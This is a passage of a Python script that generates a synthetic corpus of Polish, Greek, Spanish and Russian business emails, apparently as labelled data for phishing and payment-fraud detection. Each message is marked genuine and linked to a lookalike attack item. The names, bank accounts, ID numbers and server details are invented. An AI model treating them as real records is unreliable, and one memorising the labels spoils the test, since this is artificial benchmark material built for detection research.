Pozdrawiam
Tomasz Zieliński
Kierownik ds. Kluczowych Klientów
Partner Logistik Sp. z o.o.
tel. kom. +48 604 218 733
'''),
  atts=[('Informacja_zmiana_rachunku_PL.pdf', 'application/pdf', _pl_letter2)],
  note='Genuine bank-account change from the real partner domain and server, preceded by a phone call, effective in six weeks, old account stays active, refers to the white list and the call-back procedure; looks like attack 21.')

# ---- 23 pl: genuine platformazakupowa.pl notification
B(23, 'pl', frm=('platformazakupowa.pl', 'powiadomienia@platformazakupowa.pl'), to=S['dabrowski'],
  subj='Nowe postępowanie: Wykonanie instalacji HVAC w budynku C Dolnośląskiego Centrum Medycznego – ZP/DCM/14/2026',
  date=('2026-04-08 07:30:14', '+0200'), cs='iso-8859-2',
  route=dict(kind='saas', host='mail-out3.platformazakupowa.pl', ip='91.227.132.28', inner='mailer-worker-02.opennexus.internal'),
  hdrs=[('List-Unsubscribe', '<https://platformazakupowa.pl/profil/powiadomienia/wypisz?t=c7f1e0a2b4>')],
  text=T('''
Dzień dobry,

na platformie opublikowano nowe postępowanie zgodne z Państwa profilem powiadomień (CPV 45331000-6 Instalowanie urządzeń grzewczych, wentylacyjnych i klimatyzacyjnych):

Zamawiający: Dolnośląskie Centrum Medyczne DCM sp. z o.o.
Nazwa: Wykonanie instalacji HVAC w budynku C wraz z automatyką
Numer: ZP/DCM/14/2026
Tryb: przetarg nieograniczony (powyżej progów unijnych)
Wadium: 150 000,00 zł
Termin składania ofert: 12.05.2026, 10:00

Szczegóły postępowania: https://platformazakupowa.pl/transakcja/1048372

Powiadomienia możesz zmienić w ustawieniach profilu.

Zespół platformazakupowa.pl
Open Nexus Sp. z o.o.
'''),
  note='Genuine alert from the real Polish e-procurement platform domain; tender-invitation lures are a common attack pattern (see attack 22).')

# ---- 24 pl: genuine urgent internal request with personal data (xlsx)
_badge = xlsx_bytes([['Lp.', 'Imię i nazwisko', 'Firma', 'Nr dowodu osobistego', 'Szkolenie BHP ważne do', 'Badania lekarskie do', 'Uprawnienia'],
                     [1, 'Krzysztof Malinowski', 'Instal-Bud Sp. z o.o.', 'CDX 418227', '2027-01-14', '2026-11-30', 'SEP E do 1 kV'],
                     [2, 'Rafał Szymański', 'Instal-Bud Sp. z o.o.', 'DBN 772104', '2026-09-02', '2026-08-19', 'F-gaz kat. I'],
                     [3, 'Marcin Kaczmarek', 'Instal-Bud Sp. z o.o.', 'CBA 519036', '2027-02-21', '2027-01-10', 'UDT podesty ruchome'],
                     [4, 'Oleksandr Bondarenko', 'Instal-Bud Sp. z o.o.', 'paszport FU 2291847', '2026-12-05', '2026-10-02', 'spawanie TIG'],
                     [5, 'Łukasz Wróbel', 'Instal-Bud Sp. z o.o.', 'AYC 603812', '2026-10-11', '2026-07-28', '—']], 'Przepustki')
B(24, 'pl', frm=S['dabrowski'], to=S['kowalczyk'], cc=[('Ochrona budowy DCM', 'ochrona.dcm@examplegroup.eu')],
  subj='PILNE – przepustki na budowę DCM dla ekipy Instal-Bud od poniedziałku', date=('2026-04-10 16:47:20', '+0200'),
  cs='iso-8859-2', route=dict(kind='int', client='NB-WRO-0231', cip='10.31.4.77'), hdrs=[('Importance', 'high')],
  text=T('''
Agnieszko,

w poniedziałek o 7:00 wchodzi na budynek C podwykonawca Instal-Bud (5 osób, montaż kanałów i instalacji chłodu). Szpital nie wpuści nikogo bez imiennej przepustki i potwierdzenia szkolenia BHP, a ochrona DCM potrzebuje listy najpóźniej dziś do 18:00.

W załączniku lista z numerami dokumentów, terminami szkoleń i badań – zaświadczenia mam w segregatorze na budowie. Czy możesz to dziś zgłosić do działu administracji szpitala przez ich formularz i przesłać mi potwierdzenie? Wiem, że to piątek po 16, sorry – Instal-Bud przysłał dane dopiero teraz.

Dzięki wielkie!
Paweł

--
Paweł Dąbrowski
Kierownik budowy – DCM Wrocław
Example Group Sp. z o.o.
tel. +48 601 447 120
'''),
  atts=[('Lista_przepustki_InstalBud_DCM.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', _badge)],
  note='Genuine urgent internal request from the Polish site manager via the internal relay, Friday-afternoon deadline, XLSX with personal ID data for site access badges; urgency + attachment + personal data look suspicious; ISO-8859-2.')

# ---- 25 pl: genuine trade newsletter
_inl = T('''
InstalNews – newsletter nr 11/2026

Pompy ciepła w budynkach użyteczności publicznej – co zmieniają nowe warunki techniczne?
Od 2026 r. obowiązują zaostrzone wymagania EP dla szpitali i szkół. Omawiamy, jak projektanci i wykonawcy dobierają źródła ciepła przy modernizacjach.
https://instalnews.pl/n/11-2026/pompy-ciepla-wt?utm_source=newsletter&utm_medium=email&utm_campaign=nl11

Wentylacja bloków operacyjnych – normy PN-EN 16244 i praktyka odbiorów
https://instalnews.pl/n/11-2026/wentylacja-blokow-operacyjnych?utm_source=newsletter&utm_medium=email&utm_campaign=nl11

Webinar 16.04: F-gazy 2026 – nowe limity i obowiązki serwisowe
https://instalnews.pl/webinary/f-gazy-2026?utm_source=newsletter&utm_medium=email&utm_campaign=nl11

Otrzymujesz tę wiadomość, ponieważ zapisałeś się do newslettera InstalNews.pl.
Wypisz się: https://instalnews.pl/newsletter/wypisz?id=7c3a1f92e0
''')
B(25, 'pl', frm=('InstalNews.pl', 'newsletter@instalnews.pl'), to=S['dabrowski'],
  subj='Pompy ciepła w budynkach publicznych – nowe WT | InstalNews nr 11/2026', date=('2026-04-02 06:00:03', '+0200'),
  route=dict(kind='saas', host='mail-ot1.freshmail.pl', ip='46.248.166.81', inner='mta-04.freshmail.pl'),
  hdrs=[('List-Unsubscribe', '<https://instalnews.pl/newsletter/wypisz?id=7c3a1f92e0>'), ('List-Unsubscribe-Post', 'List-Unsubscribe=One-Click'),
        ('Precedence', 'bulk')],
  text=_inl, html=auto_html(_inl, 'Arial, sans-serif'),
  note='Genuine Polish trade newsletter the site manager subscribed to, sent through FreshMail with UTM tracking links and List-Unsubscribe.')

# ---- 26 el: genuine subcontractor invoice, ISO-8859-7
_gr_inv = pdf_bytes(['#THERMOTECHNIKI ATTIKIS A.E.', 'L. Athinon 212, 12461 Chaidari - AFM 094512877 - DOY FAE Peiraia', '',
                     '#Timologio Parochis Ypiresion TPY-0231', 'Imerominia: 27/02/2026   MARK: 400001931847215', '',
                     '3i pistopoiisi ergasion - Kliniki "Agia Eirini" Marousiou (H/M egkatastaseis)   48.600,00',
                     'FPA 24%                                                                         11.664,00',
                     'Synolo                                                                          60.264,00 EUR', '',
                     f'Ethniki Trapeza - IBAN {F["thermo"]}'], 'TPY-0231')
B(26, 'el', frm=('Θερμοτεχνική Αττικής Α.Ε. – Λογιστήριο', 'logistirio@thermotechniki-attikis.gr'), to=S['konstantinou'],
  subj='Τιμολόγιο ΤΠΥ-0231 – 3η πιστοποίηση εργασιών – Κλινική «Αγία Ειρήνη»', date=('2026-02-27 13:40:22', '+0200'),
  cs='iso-8859-7', route=dict(kind='postfix', host='mail.thermotechniki-attikis.gr', rdns='mail.thermotechniki-attikis.gr', ip='213.16.141.58',
                              pub='85.74.23.190', chost='ppp085074023190.access.hol.gr'),
  text=T(f'''
Καλημέρα σας,

σας αποστέλλουμε συνημμένα το τιμολόγιο παροχής υπηρεσιών ΤΠΥ-0231 για την 3η πιστοποίηση εργασιών στην Κλινική «Αγία Ειρήνη» Μαρουσίου, όπως εγκρίθηκε από τον επιβλέποντα μηχανικό σας κ. Αθανασίου. Το παραστατικό έχει διαβιβαστεί στο myDATA (ΜΑΡΚ 400001931847215).

Συνολικό ποσό: 60.264,00 € (συμπ. ΦΠΑ 24%)
Τρόπος πληρωμής: κατάθεση στον γνωστό λογαριασμό μας στην Εθνική Τράπεζα ({F['thermo']}).

Επισυνάπτουμε επίσης φορολογική και ασφαλιστική ενημερότητα σε ισχύ.

Με εκτίμηση,
Βάσω Δημητρίου
Λογιστήριο
ΘΕΡΜΟΤΕΧΝΙΚΗ ΑΤΤΙΚΗΣ Α.Ε.
Τ. 210 5311 402
'''),
  atts=[('TPY-0231.pdf', 'application/pdf', _gr_inv)],
  note='Genuine Greek subcontractor invoice from their real server with myDATA MARK and the known National Bank IBAN (compare attack 27 using the same sender); ISO-8859-7.')

# ---- 27 el: genuine ESIDIS notification, windows-1253
B(27, 'el', frm=('ΕΣΗΔΗΣ', 'noreply@promitheus.gov.gr'), to=S['papadopoulos'],
  subj='ΕΣΗΔΗΣ: Νέο μήνυμα επικοινωνίας – Διαγωνισμός Α/Α 341027', date=('2026-03-05 12:03:50', '+0200'), cs='windows-1253',
  route=dict(kind='postfix', host='mailgw.promitheus.gov.gr', ip='195.251.23.147', cip='10.60.2.14', chost='esidis-app02.gsis.gr', via='ESMTP'),
  text=T('''
Αγαπητέ χρήστη,

Σας ενημερώνουμε ότι υπάρχει νέο μήνυμα στην ενότητα «Επικοινωνία» του διαγωνισμού:

Συστημικός αριθμός: 341027
Τίτλος: Προμήθεια και εγκατάσταση κεντρικών κλιματιστικών μονάδων (ΚΚΜ) και συστήματος BMS στο Γενικό Νοσοκομείο
Αναθέτουσα Αρχή: 3η Υγειονομική Περιφέρεια Μακεδονίας
Θέμα μηνύματος: Παροχή διευκρινίσεων επί των τευχών (Διευκρίνιση αρ. 2)

Για να δείτε το μήνυμα, συνδεθείτε στο σύστημα ΕΣΗΔΗΣ Προμήθειες και Υπηρεσίες μέσω της πύλης www.promitheus.gov.gr.

Το μήνυμα αυτό στάλθηκε αυτόματα. Παρακαλούμε μην απαντάτε.

Εθνικό Σύστημα Ηλεκτρονικών Δημοσίων Συμβάσεων
'''),
  note='Genuine notification from the Greek national e-procurement system (gov.gr domain, no direct link, directs to the portal); resembles the fake ESIDIS attack 28; windows-1253.')

# ---- 28 el: genuine urgent internal request from site engineer
B(28, 'el', frm=S['athanasiou'], to=S['papadopoulos'], cc=[S['konstantinou']],
  subj='Επείγον – κυκλοφορητής ΘΚ-2 χάλασε, χρειάζομαι έγκριση για αγορά σήμερα', date=('2026-03-18 09:22:41', '+0200'),
  route=dict(kind='int', client='NB-ATH-0017', cip='10.36.1.17'), hdrs=[('Importance', 'high')],
  text=T('''
Γιώργο καλημέρα,

ο δίδυμος κυκλοφορητής του κυκλώματος ΘΚ-2 (θερμικό ΚΚΜ χειρουργείων) στην «Αγία Ειρήνη» κάηκε χθες το βράδυ – είναι αυτός που είχαμε βάλει προσωρινά μέχρι να έρθει ο τελικός από τη Γερμανία. Οι χειρουργικές αίθουσες δουλεύουν με την εφεδρική αντλία, αλλά η κλινική θέλει να αποκατασταθεί η εφεδρεία μέχρι την Παρασκευή, αλλιώς θα μας κάνουν έγγραφη παρατήρηση.

Έχω προσφορά από τον Ψυκτοτεχνική Πειραιώς για ίδιο τύπο (Wilo, DN65) στα 3.480 € + ΦΠΑ με παράδοση αύριο το πρωί – είναι στο όριο που χρειάζεται δική σου έγκριση. Έχω ανοίξει ήδη το αίτημα στο SAP (PR 1200-4471), αρκεί να το εγκρίνεις από εκεί. Ελένη, ο προμηθευτής είναι ήδη καταχωρημένος, πληρωμή κανονικά με τα 60 μέρες.

Αν θες να το συζητήσουμε πάρε με στο κινητό, είμαι στο μηχανοστάσιο.

Νίκος

--
Νίκος Αθανασίου
Μηχανικός Εργοταξίου
Example Group Ελλάς Μ.Α.Ε.
'''),
  note='Genuine urgent internal purchase approval request from the Greek site engineer via the internal relay, approval via SAP, existing supplier; urgency and money make it look like BEC.')

# ---- 29 el: genuine bank notice about performance guarantee
B(29, 'el', frm=('Eurobank Business', 'noreply@eurobank.gr'), to=S['konstantinou'],
  subj='Ενημέρωση: Έκδοση Εγγυητικής Επιστολής Καλής Εκτέλεσης αρ. 0026/ΕΕ/114587', date=('2026-04-03 11:30:12', '+0300'),
  route=dict(kind='saas', host='mailout2.eurobank.gr', ip='194.30.229.47', inner='ebmta02.eurobank.gr'),
  text=T('''
Αγαπητέ πελάτη,

Σας ενημερώνουμε ότι το αίτημά σας για έκδοση Εγγυητικής Επιστολής Καλής Εκτέλεσης ολοκληρώθηκε.

Αριθμός Εγγυητικής: 0026/ΕΕ/114587
Υπέρ: ΚΛΙΝΙΚΗ «ΑΓΙΑ ΕΙΡΗΝΗ» ΜΑΡΟΥΣΙΟΥ Α.Ε.
Ποσό: 96.500,00 €
Ισχύς έως: 31/12/2027

Το πρωτότυπο θα αποσταλεί στο κατάστημα Επιχειρηματικής Τραπεζικής Αμαρουσίου. Μπορείτε να δείτε το ηλεκτρονικό αντίγραφο συνδεόμενοι στο Eurobank Business Banking.

Για την ασφάλειά σας: Η Eurobank δεν σας ζητά ποτέ μέσω e-mail ή SMS να εισάγετε κωδικούς ή να επιβεβαιώσετε στοιχεία μέσω συνδέσμου. Συνδεθείτε πάντα πληκτρολογώντας τη διεύθυνση της τράπεζας στον browser σας.

Με εκτίμηση,
Eurobank
'''),
  note='Genuine bank notification about a performance guarantee the branch requested, no links; bank e-mails mentioning guarantees and amounts are classic phishing themes.')

# ---- 30 el: genuine client thread, windows-1253
B(30, 'el', frm=('Δημήτρης Λαμπρόπουλος', 'd.lampropoulos@agiairini-clinic.gr'), to=S['athanasiou'], cc=[S['papadopoulos']],
  subj='RE: RE: Θέση σε λειτουργία ΚΚΜ χειρουργείων – μετρήσεις HEPA και διαφορικών πιέσεων', date=('2026-04-16 18:02:37', '+0300'),
  cs='windows-1253', route=dict(kind='o365', ip='40.107.241.101', pfx='VI1PR08', reg='eurprd08', rdns='vi1eur04on2101', helo='EUR04-VI1-obe.outbound.protection.outlook.com'),
  irt='<VI1PR08MB5412C0E7F1A2B3C4D5E6F70812A34@VI1PR08MB5412.eurprd08.prod.outlook.com>',
  text=T('''
Νίκο καλησπέρα,

ευχαριστώ για τα αποτελέσματα. Οι μετρήσεις ακεραιότητας HEPA στις αίθουσες 1–3 είναι εντάξει, όμως στην αίθουσα 4 η διαφορική πίεση προς τον διάδρομο βγαίνει +8 Pa αντί για το ελάχιστο +15 Pa του προτύπου (DIN 1946-4). Η Διεύθυνση δεν θα υπογράψει το πρωτόκολλο παραλαβής χωρίς επαναμέτρηση.

Μπορεί ο τεχνικός σας να έρθει Σάββατο πρωί, που δεν έχουμε προγραμματισμένα χειρουργεία; Θα πρέπει να είναι και ο εκπρόσωπος της εταιρείας πιστοποίησης.

Ευχαριστώ,
Δημήτρης

Δημήτρης Λαμπρόπουλος
Προϊστάμενος Τεχνικής Υπηρεσίας
Κλινική «Αγία Ειρήνη» Μαρουσίου

-----Original Message-----
From: Νίκος Αθανασίου <n.athanasiou@examplegroup.eu>
Sent: Τετάρτη, 15 Απριλίου 2026 3:14 μμ
To: Δημήτρης Λαμπρόπουλος <d.lampropoulos@agiairini-clinic.gr>
Subject: RE: Θέση σε λειτουργία ΚΚΜ χειρουργείων – μετρήσεις HEPA και διαφορικών πιέσεων

Κύριε Λαμπρόπουλε,

σας στέλνω τα αποτελέσματα των μετρήσεων της Δευτέρας (HEPA, αλλαγές αέρα, διαφορικές πιέσεις) για τις αίθουσες 1–4. Το πλήρες report της εταιρείας πιστοποίησης θα το έχουμε την Παρασκευή.

Νίκος

-----Original Message-----
From: Δημήτρης Λαμπρόπουλος <d.lampropoulos@agiairini-clinic.gr>
Sent: Παρασκευή, 10 Απριλίου 2026 10:02 πμ
To: Νίκος Αθανασίου <n.athanasiou@examplegroup.eu>
Subject: Θέση σε λειτουργία ΚΚΜ χειρουργείων – μετρήσεις HEPA και διαφορικών πιέσεων

Νίκο, πότε προγραμματίζετε τις μετρήσεις πριν την παραλαβή;
'''),
  note='Genuine client technical thread with quoted history (commissioning of operating-theatre AHUs); reply chains with quoted history are also used for thread hijacking; windows-1253.')

# ---- 31 es: genuine subcontractor invoice with retention
_es_inv = pdf_bytes(['#CLIMATIZACIONES LEVANTE S.L.', 'Av. Tres Forques 98, 46014 Valencia - CIF B46218457', '',
                     '#Factura FV26-0188', 'Fecha: 27/02/2026   Obra: Residencial Castellana Norte (Madrid)', '',
                     'Certificacion n. 6 - instalacion de climatizacion y ventilacion (febrero)   58.420,00',
                     'Retencion de garantia 5% (art. 12 contrato)                                  -2.921,00',
                     'Base imponible 58.420,00   IVA 21% (inversion del sujeto pasivo) 0,00',
                     'Liquido a percibir                                                          55.499,00 EUR', '',
                     f'Forma de pago: confirming 60 dias - CaixaBank {F["climalevante"]}'], 'FV26-0188')
B(31, 'es', frm=('Administración Climatizaciones Levante', 'administracion@climalevante.es'), to=S['fernandez'], cc=[S['morales']],
  subj='Factura FV26-0188 – Certificación nº 6 – Residencial Castellana Norte', date='2026-02-27 12:44:18',
  route=dict(kind='postfix', host='smtp.climalevante.es', rdns='smtp07.servidoresdns.net', ip='82.98.134.41', pub='79.116.201.33', chost='79-116-201-33.dyn.user.ono.com'),
  text=T(f'''
Buenos días, Lucía:

Os adjuntamos la factura FV26-0188 correspondiente a la certificación nº 6 de la obra Residencial Castellana Norte, conforme a la relación valorada firmada por Javier el día 25.

Importe certificado: 58.420,00 €
Retención de garantía 5 %: 2.921,00 €
Líquido a percibir: 55.499,00 € (IVA con inversión del sujeto pasivo, art. 84.Uno.2º f) LIVA)

Forma de pago según contrato: confirming a 60 días, cuenta de siempre en CaixaBank.

Adjuntamos también el certificado de estar al corriente con la AEAT (art. 43.1.f LGT) y el TC2 de febrero para el libro de subcontratación.

Un saludo,

Rosa Martí
Departamento de Administración
Climatizaciones Levante S.L.
Tel. 963 502 118
'''),
  atts=[('FV26-0188.pdf', 'application/pdf', _es_inv)],
  note='Genuine Spanish subcontractor invoice from their real domain and hosting, with retention, reverse-charge VAT and the known CaixaBank account (same sender abused in attack 32).')

# ---- 32 es: genuine PLACSP notification
B(32, 'es', frm=('Plataforma de Contratación del Sector Público', 'noreply@contrataciondelestado.es'), to=S['morales'],
  subj='Aviso de suscripción: nueva licitación publicada – Expediente 2026/OBR/0154', date='2026-03-10 07:15:44',
  cs='iso-8859-15', route=dict(kind='postfix', host='correo.contrataciondelestado.es', ip='194.179.34.60', cip='10.67.2.41', chost='pcsp-notif03.minhap.es', via='ESMTP'),
  text=T('''
Plataforma de Contratación del Sector Público

Se ha publicado una nueva licitación que coincide con los criterios de su suscripción "Climatización – Comunidad de Madrid":

Expediente: 2026/OBR/0154
Objeto: Obras de renovación de la instalación de climatización y producción de ACS del Hospital Universitario del Sureste
Órgano de contratación: Dirección Gerencia del Hospital Universitario del Sureste
Presupuesto base de licitación (sin impuestos): 2.386.412,50 €
Fecha fin de presentación de ofertas: 14/04/2026 19:00

Puede consultar el anuncio en:
https://contrataciondelestado.es/wps/poc?uri=deeplink:detalle_licitacion&idEvl=Xq7bT2mK5RsQ%2BB5mK4pG1w%3D%3D

Para darse de baja o modificar su suscripción, acceda a su perfil de licitador.
'''),
  note='Genuine subscription alert from the real Spanish public-procurement platform domain with a deeplink to the official site; compare the fake PLACSP attack 33; ISO-8859-15.')

# ---- 33 es: genuine Signaturit e-signature request
_sg = 'https://app.signaturit.com/document/7e91c2a4-5b3d-4f08-a6e1-2d9c80f47b15?token=8c4f1e27a9'
_sg_txt = T(f'''
Hola Javier Morales Ruiz,

Castellana Desarrollos Inmobiliarios, S.L. te ha enviado un documento para firmar:

Contrato de obra – instalaciones MEP Fase 2 – Residencial Castellana Norte.pdf

Mensaje de Marta Iglesias:
"Javier, te envío el contrato con las modificaciones acordadas en la reunión del martes (plazo de ejecución 14 meses, retención del 5 % sustituible por aval). Necesitamos la firma antes del acta de replanteo del día 2. Gracias."

Revisar y firmar el documento: {_sg}

Este enlace es personal. No lo reenvíes.
Signaturit Solutions, S.L. – Firma electrónica conforme al Reglamento eIDAS.
''')
B(33, 'es', frm=('Marta Iglesias vía Signaturit', 'no-reply@signaturit.com'), to=S['morales'],
  reply_to=('Marta Iglesias', 'm.iglesias@castellana-desarrollos.es'),
  subj='Castellana Desarrollos te ha enviado un documento para firmar: Contrato de obra – instalaciones MEP Fase 2', date='2026-03-26 17:30:05',
  route=dict(kind='saas', host='mail-out1.signaturit.com', ip='18.200.88.134', inner='ip-172-31-12-77.eu-west-1.compute.internal'),
  text=_sg_txt, html=auto_html(_sg_txt, 'Roboto, Arial, sans-serif'),
  note='Genuine e-signature request via Signaturit from the developer client for an already-negotiated contract; e-signature notifications are a frequent phishing lure.')

# ---- 34 es: genuine factoring assignment notice (pay a different account)
_cesion = pdf_bytes(['#Notificacion de cesion de creditos', '', 'SUMINISTROS ELECTRICOS TAJO, S.A. (CIF A45127730) - cedente',
                     'BBVA FACTORING E.F.C., S.A. - cesionario', '',
                     'Por la presente les notificamos, a los efectos del art. 347 del Codigo de Comercio y art. 1527',
                     'del Codigo Civil, que los creditos derivados de nuestras facturas emitidas a partir del 01/04/2026',
                     'han sido cedidos a BBVA Factoring. El pago debera efectuarse exclusivamente en la cuenta:',
                     f'  {F["tajo_factor"]}  (titular: BBVA Factoring E.F.C., S.A.)', '',
                     'Rogamos devuelvan firmado el acuse de recibo adjunto.', '',
                     'Por SUMINISTROS ELECTRICOS TAJO, S.A.        Por BBVA FACTORING E.F.C., S.A.'], 'Cesion')
B(34, 'es', frm=('Suministros Eléctricos Tajo – Administración', 'administracion@sumtajo.es'), to=S['fernandez'],
  cc=[('Carlos Peña', 'c.pena@sumtajo.es')],
  subj='Notificación de cesión de créditos a BBVA Factoring – Suministros Eléctricos Tajo', date=('2026-03-30 10:51:03', '+0200'),
  route=dict(kind='o365', ip='40.107.117.60', pfx='PA4P190', reg='EURP190', rdns='mrs2eur01on2060', helo='EUR01-MR2-obe.outbound.protection.outlook.com'),
  text=T('''
Estimada Lucía:

Como te comentó por teléfono nuestro director financiero, Carlos Peña, hemos formalizado una línea de factoring sin recurso con BBVA Factoring. Te adjuntamos la notificación de cesión de créditos firmada por ambas partes.

A partir de las facturas emitidas desde el 1 de abril de 2026, los pagos deberán realizarse a la cuenta de BBVA Factoring indicada en la notificación (titular BBVA Factoring E.F.C., S.A., no Suministros Eléctricos Tajo). Las facturas anteriores se siguen pagando en nuestra cuenta habitual.

BBVA Factoring os enviará además su propia comunicación por correo certificado. Os rogamos que nos devolváis firmado el acuse de recibo y, si lo consideráis necesario, que verifiquéis la cesión directamente con BBVA a través de vuestro gestor.

Un saludo,

Ana Beltrán
Administración
Suministros Eléctricos Tajo, S.A.
Pol. Ind. Santa María de Benquerencia, c/ Río Jarama 56 – 45007 Toledo
Tel. 925 230 418
'''),
  atts=[('Notificacion_cesion_creditos_BBVA_Factoring.pdf', 'application/pdf', _cesion)],
  note='Genuine factoring assignment notice from a real supplier (their M365): future invoices payable to the factor\'s account, announced by phone, separate certified letter from the bank, only from 1 April; "pay a new account" looks exactly like payment-diversion fraud.')

# ---- 35 es: genuine internal forward in a thread – retention release
B(35, 'es', frm=S['morales'], to=S['fernandez'], cc=[S['vogelsang']],
  subj='RV: Devolución retención 5 % Fase 1 – Climatizaciones Levante', date=('2026-04-15 09:04:12', '+0200'),
  route=dict(kind='int', client='NB-MAD-0021', cip='10.38.1.21'),
  text=T('''
Lucía:

te reenvío la petición de Climatizaciones Levante. Confirmo que el acta de recepción de la Fase 1 está firmada sin reservas por la dirección facultativa desde el 12 de marzo (está en la carpeta de obra, Calidad > Recepciones) y el plazo de garantía de su subcontrato para la Fase 1 era hasta recepción + 12 meses sustituible por aval, que ya nos han entregado (aval Sabadell nº 0081-2026-00417, el original lo tiene Administración).

Por mi parte OK para devolver la retención; pago a la cuenta que tenemos en el maestro de proveedores, como siempre. Pongo a Katrin en copia porque el importe supera mi límite de aprobación.

Gracias,
Javier

Javier Morales Ruiz
Jefe de Obra – Example Group Instalaciones S.L.U.
Móvil 629 418 207

-----Mensaje original-----
De: Rosa Martí <administracion@climalevante.es>
Enviado el: martes, 14 de abril de 2026 13:22
Para: Javier Morales Ruiz <j.morales@examplegroup.eu>
Asunto: Devolución retención 5 % Fase 1 – Climatizaciones Levante

Buenos días, Javier:

Una vez firmada el acta de recepción de la Fase 1 y entregado el aval de garantía, os solicitamos la devolución de las retenciones practicadas en las certificaciones 1 a 4 (total 14.716,50 €). ¿Nos podéis indicar fecha prevista de pago?

Gracias y un saludo,
Rosa Martí
Climatizaciones Levante S.L.
'''),
  note='Genuine internal forward (internal relay) of a subcontractor\'s retention-release request, approved by the site manager with the CFO in copy and "pay to the vendor-master account"; payment + forwarded external request looks like BEC.')

# ---- 36 ru: genuine invoice from subcontractor, KOI8-R
RU_BIK_SB = '044030653'  # Северо-Западный банк ПАО Сбербанк
_acct_stm = ru_account(RU_BIK_SB, '40702810055000031487')
_corr_sb = '30101810500000000653'
_inn_stm = ru_inn10('780621473')
_ru_inv = pdf_bytes(['#OOO "SeverTeploMontazh"', f'INN {_inn_stm} / KPP 780601001', '',
                     '#Schet na oplatu N 214 ot 16.03.2026', 'Pokupatel: OOO "Ekzampl Grupp Inzhiniring"', '',
                     'Avans 30% po dogovoru subpodryada N SP-07/25 (montazh sistem OViK, ZhK "Okhta Park")',
                     'Summa: 4 218 600,00 rub., v t.ch. NDS 22% 760 730,00 rub.', '',
                     f'r/s {_acct_stm}  PAO Sberbank  BIK {RU_BIK_SB}  k/s {_corr_sb}'], 'Schet 214')
B(36, 'ru', frm=('ООО «СеверТеплоМонтаж» Бухгалтерия', 'buh@stm-spb.ru'), to=S['lebedeva'], cc=[S['kuznetsov']],
  subj='Счёт на оплату № 214 от 16.03.2026 (аванс 30% по договору СП-07/25)', date=('2026-03-16 12:18:40', '+0300'),
  cs='koi8-r', route=dict(kind='postfix', host='mail.stm-spb.ru', ip='185.22.153.74', rdns='mail.stm-spb.ru', pub='188.243.17.92', chost='broadband-188-243-17-92.ip.moscow.rt.ru'),
  text=T(f'''
Добрый день, Ольга Николаевна!

Направляем счёт на оплату № 214 от 16.03.2026 на авансовый платёж 30% по договору субподряда № СП-07/25 (монтаж систем ОВиК, ЖК "Охта Парк", корпус 3).

Сумма: 4 218 600,00 руб., в т.ч. НДС 22%.

Реквизиты прежние:
ООО "СеверТеплоМонтаж", ИНН {_inn_stm}
Р/с {_acct_stm} в ПАО Сбербанк
БИК {RU_BIK_SB}, к/с {_corr_sb}

УПД направим через Диадок после закрытия этапа. Оригинал счёта при необходимости передадим с курьером.

С уважением,
Марина Ковалёва
главный бухгалтер ООО "СеверТеплоМонтаж"
тел. (812) 648-32-17
'''),
  atts=[('Счёт_214_от_16.03.2026.pdf', 'application/pdf', _ru_inv)],
  note='Genuine Russian subcontractor advance invoice from the real domain (stm-spb.ru, vs lookalike in attack 38), usual bank requisites with valid check keys; KOI8-R.')

# ---- 37 ru: genuine e-trading platform notification, windows-1251
B(37, 'ru', frm=('РТС-тендер', 'noreply@rts-tender.ru'), to=S['sokolov'], cc=[S['kuznetsov']],
  subj='Опубликован протокол подведения итогов по процедуре № 3241887', date=('2026-03-27 16:40:22', '+0300'), cs='windows-1251',
  route=dict(kind='postfix', host='mail2.rts-tender.ru', ip='91.217.179.24', cip='10.12.4.18', chost='notify-04.rts-tender.local', via='ESMTP'),
  text=T('''
Уважаемый пользователь!

Информируем Вас о том, что по закупке, в которой Вы принимали участие, опубликован протокол подведения итогов.

Номер процедуры: 3241887
Номер извещения в ЕИС: 32615487220
Наименование: Выполнение работ по реконструкции систем вентиляции и кондиционирования здания поликлиники (223-ФЗ)
Заказчик: ГБУЗ «Городская поликлиника № 118»
Ваша заявка: № 2 – признана победителем

С протоколом можно ознакомиться в личном кабинете участника на электронной площадке и в Единой информационной системе (zakupki.gov.ru).

Данное сообщение сформировано автоматически и не требует ответа.

С уважением,
Электронная площадка «РТС-тендер»
'''),
  note='Genuine notification from a real Russian e-trading platform (no links, directs to the personal account and EIS); resembles the fake-tender attack 39; windows-1251.')

# ---- 38 ru: genuine internal message about a tax demand
B(38, 'ru', frm=S['lebedeva'], to=S['sokolov'], cc=[S['vogelsang']],
  subj='Требование ИФНС № 78 по НДС за 4 кв. – срок ответа 5 рабочих дней', date=('2026-03-12 10:26:03', '+0300'),
  cte='b64', route=dict(kind='int', client='NB-SPB-0008', cip='10.46.1.8'),
  text=T('''
Андрей Викторович, добрый день!

Через оператора ЭДО (Контур.Экстерн) вчера пришло требование ИФНС № 78 о представлении пояснений по декларации по НДС за 4 квартал 2025 г. – расхождения по двум контрагентам (ООО "ТеплоКомплект" и ООО "Вентсервис"), в основном разрывы по счетам-фактурам из-за того, что поставщики сдали уточнёнку позже.

Квитанцию о приёме я уже отправила (срок 6 рабочих дней истекал бы в пятницу). Пояснения нужно подать в течение 5 рабочих дней, т.е. до 19.03. По "Вентсервису" всё закроем сами, по "ТеплоКомплекту" мне нужны от Дмитрия копии УПД и акт сверки за 4 кв., я ему уже написала.

Ничего оплачивать сейчас не требуется. Катрин ставлю в копию для информации, в квартальном отчёте отражу.

С уважением,
Ольга Лебедева
главный бухгалтер
ООО "Экзампл Групп Инжиниринг"
'''),
  note='Genuine internal message from the Russian chief accountant (internal relay) about a real tax demand received through the official EDO operator; tax-authority vocabulary overlaps with the fake FNS attack 36.')

# ---- 39 ru: genuine client thread about KS-2/KS-3 acts, windows-1251 QP
B(39, 'ru', frm=('Ирина Гусева', 'i.guseva@nevdev.ru'), to=S['sokolov'], cc=[S['kuznetsov'], ('Технадзор Охта Парк', 'tn.ohta@nevdev.ru')],
  subj='RE: КС-2/КС-3 за март, ЖК «Охта Парк» – замечания технадзора', date=('2026-04-03 17:12:48', '+0300'), cs='windows-1251',
  route=dict(kind='postfix', host='mx2.nevdev.ru', ip='46.235.190.18', rdns='mx2.nevdev.ru', cip='10.0.12.44', chost='exch02.nevdev.local', via='ESMTPS'),
  irt='<2b7e4d19-0ac3-4f61-9d82-5e3f1a07c6b2@examplegroup.eu>',
  text=T('''
Андрей Викторович, добрый вечер!

